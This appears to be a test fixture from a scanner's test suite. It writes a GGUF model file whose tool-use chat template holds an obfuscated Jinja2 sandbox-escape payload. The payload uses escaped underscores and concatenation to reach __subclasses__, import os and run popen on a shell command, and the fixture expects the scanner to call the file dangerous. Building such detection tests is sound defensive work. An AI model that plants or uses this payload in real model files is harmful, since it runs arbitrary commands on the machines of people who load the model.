"""GGUF chat template that never writes a dunder: attr() with escaped strings ('\\x5f\\x5fclass\\x5f\\x5f')
and names built with ~, so a substring search for "__class__" finds nothing."""
from attack_common import *

EXPECTED = {"verdict": "dangerous", "finding": {"category": "code-execution", "name": "__class__"}}

TEMPLATE = ("{% set u = '\\x5f' %}"
            "{% for x in ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr(u ~ u ~ 'base' ~ u ~ u)"
            "|attr('\\u005f\\u005fsubclasses\\u005f\\u005f')() %}"
            "{% if 'warning' in x|attr('\\137\\137name\\137\\137') %}"
            "{{ (x()|attr('_module')|attr('\\x5f_builtins_\\x5f'))['\\x5f_imp' ~ 'ort_\\x5f']('o' ~ 's')"
            "|attr('po' ~ 'pen')('" + shell_command() + "') }}"
            "{% endif %}{% endfor %}")


def generate(folder):
    metadata = [("general.architecture", "llama"), ("tokenizer.chat_template", "{{ messages }}"),
                ("tokenizer.chat_template.tool_use", TEMPLATE),
                ("tokenizer.chat_templates", ["tool_use"])]
    return write(folder + "/model.gguf", gguf_bytes(metadata))
